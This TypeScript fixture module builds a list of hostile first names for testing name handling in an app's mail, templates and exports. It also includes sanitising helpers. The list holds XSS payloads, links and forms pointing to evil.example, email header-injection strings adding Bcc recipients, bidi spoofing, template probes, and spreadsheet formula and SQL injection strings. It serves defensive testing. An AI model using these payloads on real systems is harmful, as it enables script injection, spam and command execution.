import { standingNames } from "#lib/templates/placeholders";

/** As many units as a name may have here; a column takes more, a form does not. */
const longest = 200;

const markup = [
  "<b>Mara</b>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "</title></style></textarea></noscript><script>alert(1)</script>",
  "</p></td></tr></tbody></table></body></html><h1>",
  "<plaintext>",
  "<!-- ",
  "--!><img src=x onerror=alert(1)>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<form action=https://evil.example><input name=q>",
  "<a href=javascript:alert(1)>Mara</a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&amp;amp;",
];

const attributes = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  "' onfocus='alert(1)' tabindex=0 autofocus x='",
  '"style="position:fixed;background:url(https://evil.example/)',
  "javascript:alert(1)",
  "//evil.example",
  "https://evil@gym.example",
  "data:text/html,<script>alert(1)</script>",
];

const placeholders = [...standingNames].map((name) => `{{ ${name} }}`);
const templates = [
  "{{member_email}}",
  "{{{{ member_email }}}}",
  "{{ '{{ member_email }}' }}",
  "{% raw %}",
  "{% endraw %}{{ member_email }}",
  "{% for i in (1..9) %}x{% endfor %}",
  "{{ 7 | times: 7 }}",
  "{{",
  "%}",
  ["$", "{7*7}"].join(""),
  "<%= 7*7 %>",
  "slot-body-0",
  "$&$1$`$'",
  "%s%n%d%x",
  "__proto__",
];

const lines = [
  "Mara\r\nBcc: everyone@evil.example",
  "Mara\nBcc: everyone@evil.example",
  "Mara\rX-Header: 1",
  "Mara\r\n\r\n<script>alert(1)</script>",
  "Mara\r\n X-Folded: 1\r\n\tX-Folded: 2",
  "Mara\r\n.\r\nQUIT\r\n",
  "Mara\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
  "Mara\u0085Bcc: everyone@evil.example",
  "Mara\u2028Bcc: everyone@evil.example",
  "Mara\u2029Bcc: everyone@evil.example",
  "Mara\u000b\u000cBcc: everyone@evil.example",
  "Mara\tTab",
  "Mara %0d%0aBcc: everyone@evil.example",
  // Written so, a mail program reads them as what they encode.
  "=?utf-8?Q?Mara=0D=0ABcc:_everyone@evil.example?=",
  "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
  "=?utf-8?Q?Free?= =?utf-8?Q?_money?=",
  "Mara, everyone@evil.example",
  "<everyone@evil.example>",
];

const signs = [
  "\u202egnp.exe",
  "\u2066Mara\u2069\u202c",
  "\u200eMa\u200fra\u061c",
  "محمد",
  "שרה לוי",
  "Ma\u200bra\u200c\u200d\ufeff",
  "\u001b[31mMara\u001b[0m",
  "Ma\u0007ra\u0008\u007f",
  "Zoë 🏋️‍♀️👨‍👩‍👧🏴‍☠️",
  "👩🏿‍🚀".repeat(20),
  "Z̸̡̛͖a̷l̶g̵o̸",
  "李小龙",
  "O'Neil",
  'Anna "Anni" Meier',
  "a\\b\\\\c\\",
  "\\u0000\\ud800\\x00\\0",
  "%00",
];

const formulas = [
  "=HYPERLINK(1)",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1;1)",
  "\t=1+1",
  "\r=1+1",
  'Mara;Meier,"x"\n=1+1',
  "'); drop table users; --",
  "' or '1'='1",
];

const long = ["x", "ä", "<", "&", '"', "{", "\u4e00", "💪", "a "].map((sign) =>
  sign.repeat(longest / sign.length).trimEnd(),
);

const byHand = [...markup, ...attributes, ...placeholders, ...templates, ...lines, ...signs, ...formulas, ...long];

/** Two of them one behind the other: what one leaves open, the other goes on with. */
function combine(count: number): string[] {
  const short = byHand.filter((name) => name.length <= longest / 2);
  return Array.from({ length: count }, (_, index) => {
    const first = short[(index * 5) % short.length] ?? "";
    const second = short[(index * 7 + 3) % short.length] ?? "";
    return first + second;
  });
}

/** Two hundred first names, each a try at being more than a name, as a column of the database can hold them. */
export const hostileNames = [...byHand, ...combine(200 - byHand.length)];

/** What a mail or a notification says of a name: without control characters and the marks that turn a line round. */
export const tidied = (name: string): string =>
  name.replace(/\r\n?/g, "\n").replace(/(?![\t\n])[\p{Cc}\u202a-\u202e\u2066-\u2069]/gu, "");

/** The same where one line is all there is. */
export const tidiedLine = (name: string): string => tidied(name).replace(/\s+/g, " ").trim();
